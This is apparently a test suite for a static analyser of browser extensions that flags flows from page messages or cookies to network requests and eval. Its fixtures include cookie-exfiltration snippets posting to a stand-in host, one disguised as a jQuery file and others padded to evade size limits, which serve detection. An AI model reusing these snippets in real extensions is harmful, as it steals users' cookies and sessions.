import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../testing/flows-between.ts';

const manifest = {
  manifest_version: 2,
  background: { scripts: ['app.js', 'net.js', 'main.js'] },
  content_scripts: [{ matches: ['https://*/*'], js: ['content.js'] }],
};
const content = `
  window.addEventListener('message', function (event) {
    chrome.runtime.sendMessage({ name: event.data.name, options: event.data.options });
  });`;
const app = `var App = { handlers: {} }; App.register = function (name, act) { App.handlers[name] = act; };`;
const net = `App.register('load', function (options) { fetch(options.url); });`;
const main = `chrome.runtime.onMessage.addListener(function (m) { var act = App.handlers[m.name]; if (act) act(m.options); });`;

describe('scripts of one background page', () => {
  it('are followed through tables that one fills and another calls', () => {
    assert.deepEqual(
      flowsBetween(
        { 'content.js': content, 'app.js': app, 'net.js': net, 'main.js': main },
        manifest,
      ),
      ['page-message content.js > network net.js (exposure, high)'],
    );
  });

  it('are followed through objects of classes of another script', () => {
    const flows = flowsBetween(
      {
        'content.js': content,
        'app.js': 'function Client(base) { this.base = base; }',
        'net.js': 'Client.prototype.load = function (options) { return fetch(options.url); };',
        'main.js': `var client = new Client('/');
          chrome.runtime.onMessage.addListener(function (m) { client[m.name](m.options); });`,
      },
      manifest,
    );
    assert.ok(flows.includes('page-message content.js > network net.js (exposure, high)'));
  });

  it('name each flow once', () => {
    const flows = flowsBetween(
      {
        'content.js': content,
        'app.js': 'var a = 1;',
        'net.js': 'var b = 2;',
        'main.js': 'chrome.runtime.onMessage.addListener(function (m) { eval(m.options); });',
      },
      manifest,
    );
    assert.deepEqual(flows, ['page-message content.js > code-execution main.js (exposure, high)']);
  });

  it('have no flow where the function that is called runs nothing of the message', () => {
    const fixed = net.replace('options.url', "'https://a.dev/news'");
    assert.deepEqual(
      flowsBetween(
        { 'content.js': content, 'app.js': app, 'net.js': fixed, 'main.js': main },
        manifest,
      ),
      [],
    );
  });

  it('are not joined with scripts of another page', () => {
    const flows = flowsBetween(
      { 'content.js': content, 'app.js': app, 'net.js': net, 'main.js': main },
      { ...manifest, background: { scripts: ['app.js', 'main.js'] } },
    );
    assert.deepEqual(
      flows.filter((flow) => flow.startsWith('page-message')),
      [],
    );
  });

  it('are read one by one where together they are too large', () => {
    const filler = `/* ${'long '.repeat(60_000)} */`;
    const flows = flowsBetween(
      { 'content.js': content, 'app.js': app + filler, 'net.js': net, 'main.js': main },
      manifest,
    );
    assert.deepEqual(flows, []);
  });
});

describe('what one script declares and another uses', () => {
  const sends = (host: string): string =>
    `fetch(ADDRESS, { method: 'POST', body: document.cookie }); // ${host}`;
  const twoContent = { content_scripts: [{ matches: ['<all_urls>'], js: ['config.js', 'b.js'] }] };
  const hosts = (files: Readonly<Record<string, string>>, extra: object): readonly unknown[] =>
    flowsBetween.whole(files, extra).map(({ host }) => host);

  it('is the address of a request in a content script', () => {
    const config = `const ADDRESS = 'https://in.gather.dev/a', OTHER = 'https://calm.tides.dev/a';`;
    assert.deepEqual(hosts({ 'config.js': config, 'b.js': sends('') }, twoContent), [
      'in.gather.dev',
    ]);
  });

  it('is what importScripts brought to a worker, also where that imports in turn', () => {
    const files = {
      'worker.js': `importScripts('lib/api.js'); chrome.cookies.getAll({}, (all) => api.send(all));`,
      'lib/api.js': `importScripts('/lib/host.js');
        const api = { send(data) { fetch(host(), { method: 'POST', body: JSON.stringify(data) }); } };`,
      'lib/host.js': `function host() { return 'https://in.gather.dev/a'; }`,
    };
    assert.deepEqual(hosts(files, {}), ['in.gather.dev']);
  });

  it('is strict only where a script says so', () => {
    const files = {
      'config.js': `'use strict'; const ADDRESS = 'https://in.gather.dev/a';`,
      'b.js': `var octal = 010; ${sends('')}`,
    };
    assert.deepEqual(hosts(files, twoContent), ['in.gather.dev']);
  });

  it('is read where another entry uses it too', () => {
    const files = {
      'config.js': `const ADDRESS = 'https://in.gather.dev/a';`,
      'b.js': sends(''),
      'c.js': `fetch(ADDRESS, { method: 'POST', body: document.cookie });`,
    };
    const entries = [
      { matches: ['https://a.dev/*'], js: ['config.js', 'b.js'] },
      { matches: ['https://b.dev/*'], js: ['config.js', 'c.js'] },
    ];
    assert.deepEqual(hosts(files, { content_scripts: entries }), [
      'in.gather.dev',
      'in.gather.dev',
    ]);
  });
});

describe('what scripts that are read together declare', () => {
  const send = `function send(d) { fetch('https://in.gather.dev/a', { method: 'POST', body: d }) }`;
  const taken = 'chrome.cookies.getAll({}, (all) => send(JSON.stringify(all)))';
  const page = (...scripts: readonly string[]): string =>
    scripts.map((script) => `<script src="${script}"></script>`).join('');
  const pages = (other: string): Readonly<Record<string, string>> => ({
    'send.js': send,
    'a.js': 'send("hi")',
    'one.html': page('send.js', 'a.js'),
    'two.html': page('send.js', other),
  });

  it('is still there for a script that is injected beside them', () => {
    const files = {
      'send.js': send,
      'a.js': 'send("hi")',
      'late.js': 'send(document.cookie)',
      'worker.js': `chrome.scripting.executeScript({ target: { tabId: 1 }, files: ['late.js'] })`,
    };
    assert.deepEqual(
      flowsBetween(files, {
        content_scripts: [{ matches: ['<all_urls>'], js: ['send.js', 'a.js'] }],
      }),
      ['cookies late.js > network send.js (theft, high)'],
    );
  });

  it('is still there on another page for a script that is too large', () => {
    const large = `/* ${'x'.repeat(130_000)} */ ${taken}`;
    assert.deepEqual(flowsBetween({ ...pages('large.js'), 'large.js': large }), [
      'cookies large.js > network send.js (theft, high)',
    ]);
  });

  it('is still there on another page for what calls itself a library', () => {
    const name = 'jquery-3.7.1.min.js';
    const named = `/*! jQuery v3.7.1 | (c) OpenJS */\n${taken}`;
    assert.deepEqual(flowsBetween({ ...pages(name), [name]: named }), [
      `cookies ${name} > network send.js (theft, high)`,
    ]);
  });

  it('is still there where two groups end with one script', () => {
    const files = {
      ...pages('large.js'),
      'large.js': `/* ${'x'.repeat(130_000)} */ ${taken}`,
      'b.js': 'const other = 1',
      'three.html': page('b.js', 'a.js'),
    };
    assert.deepEqual(flowsBetween(files), ['cookies large.js > network send.js (theft, high)']);
  });
});

describe('modules of one service worker', () => {
  const handlers = `export class Handlers {
    async load({ url }) { const answer = await fetch(url); return answer.text(); }
  }`;
  const worker = `import { Handlers } from './lib/handlers.js';
    const handlers = new Handlers();
    chrome.runtime.onMessage.addListener((m) => { handlers[m.name](m.options); });`;

  it('are followed through classes that another one exports', () => {
    const flows = flowsBetween({
      'content.js': content,
      'worker.js': worker,
      'lib/handlers.js': handlers,
    });
    assert.ok(flows.includes('page-message content.js > network lib/handlers.js (exposure, high)'));
  });

  it('have no flow where the class asks for one address', () => {
    const fixed = handlers.replace('fetch(url)', "fetch('https://a.dev/list')");
    const flows = flowsBetween({
      'content.js': content,
      'worker.js': worker,
      'lib/handlers.js': fixed,
    });
    assert.deepEqual(flows, []);
  });

  it('are followed through what is exported by default and in lists', () => {
    const flows = flowsBetween({
      'content.js': content,
      'worker.js': `import acts from './acts.js'; import './more.js';
        chrome.runtime.onMessage.addListener((m) => { acts[m.name](m.options); });`,
      'acts.js': `const acts = { load(options) { fetch(options.url); } };
        export { acts as default };`,
      'more.js': 'export default { nothing: 1 };',
    });
    assert.ok(flows.includes('page-message content.js > network acts.js (exposure, high)'));
  });
});
